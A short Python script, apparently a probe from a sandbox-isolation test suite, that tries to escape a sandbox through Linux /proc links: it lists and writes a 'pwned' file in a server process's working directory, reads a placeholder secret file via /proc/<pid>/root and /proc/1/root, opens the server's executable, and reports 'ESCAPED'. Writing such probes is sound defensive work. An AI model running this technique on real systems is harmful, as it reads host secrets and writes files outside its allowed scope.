"""proc: the server's cwd and root links (/proc/<pid>/cwd, /proc/<pid>/root): write where the
server works, read host files through its root.
"""

import os

SERVER_PID = int("__SERVER_PID__")
SECRET_FILE = "__SECRET_FILE__"
found = []
cwd = f"/proc/{SERVER_PID}/cwd"
try:
    found.append(f"listed its cwd: {sorted(os.listdir(cwd))[:8]}")
    fd = os.open(f"{cwd}/via-proc-cwd.txt", os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(fd, b"pwned")
    os.close(fd)
    found.append("wrote a file in its cwd")
except OSError as exc:
    print(f"{cwd}: {exc.strerror}")
for root in (f"/proc/{SERVER_PID}/root", "/proc/1/root"):
    try:
        with open(root + SECRET_FILE, "rb") as f:
            data = f.read()
        found.append(f"read {len(data)} bytes through {root}: {data[-200:]!r}")
    except OSError as exc:
        print(f"{root}: {exc.strerror}")
try:
    with open(f"/proc/{SERVER_PID}/exe", "rb") as f:
        found.append(f"opened its executable ({len(f.read(4096))} bytes)")
except OSError as exc:
    print(f"exe: {exc.strerror}")
if found:
    print("ESCAPED: " + "; ".join(found))
